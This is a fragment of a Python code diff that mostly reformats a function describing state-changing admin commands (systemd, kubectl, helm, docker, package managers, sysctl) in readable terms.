+            "mask": "masks",
+            "unmask": "unmasks",
+            "try-restart": "restarts",
+            "reload-or-restart": "reloads or restarts",
+            "kill": "kills",
+        }[ops[0]]
         return f"{verb} systemd unit {' '.join(ops[1:])}"
     if name == "service" and len(ops) >= 2:
         return f"{ops[1]}s service {ops[0]}"
     if name == "kubectl" and ops:
-        if ops[0] in ("rollout", "scale", "delete", "apply", "create", "replace", "patch", "set", "drain", "cordon",
-                      "uncordon", "annotate", "label", "edit", "cp", "exec", "taint", "autoscale"):
+        if ops[0] in (
+            "rollout",
+            "scale",
+            "delete",
+            "apply",
+            "create",
+            "replace",
+            "patch",
+            "set",
+            "drain",
+            "cordon",
+            "uncordon",
+            "annotate",
+            "label",
+            "edit",
+            "cp",
+            "exec",
+            "taint",
+            "autoscale",
+        ):
             return f"kubectl {' '.join(argv)[:120]}"
         return None
     if name == "helm" and ops and ops[0] in ("rollback", "upgrade", "install", "uninstall", "delete"):
@@ -1896,9 +2813,17 @@ def describe(cmd: Command) -> str | None:
         return f"changes firewall: {name} {' '.join(argv)[:80]}"
     if name == "journalctl" and any(a.startswith("--vacuum") for a in argv):
         return f"vacuums the systemd journal ({' '.join(a for a in argv if a.startswith('--vacuum'))})"
-    if name in ("docker", "podman") and ops and ops[0] in ("restart", "stop", "rm", "prune", "system", "image", "container", "volume", "kill", "start"):
+    if (
+        name in ("docker", "podman")
+        and ops
+        and ops[0] in ("restart", "stop", "rm", "prune", "system", "image", "container", "volume", "kill", "start")
+    ):
         return f"{name} {' '.join(argv)[:100]}"
-    if name in ("apt-get", "apt", "yum", "dnf", "pip", "pip3") and ops and ops[0] in ("install", "remove", "purge", "upgrade", "update"):
+    if (
+        name in ("apt-get", "apt", "yum", "dnf", "pip", "pip3")
+        and ops
+        and ops[0] in ("install", "remove", "purge", "upgrade", "update")
+    ):
         return f"{name} {' '.join(argv)[:100]}"
     if name == "sysctl" and any("=" in a for a in argv):
         return f"sets kernel parameters {' '.join(a for a in argv if '=' in a)}"
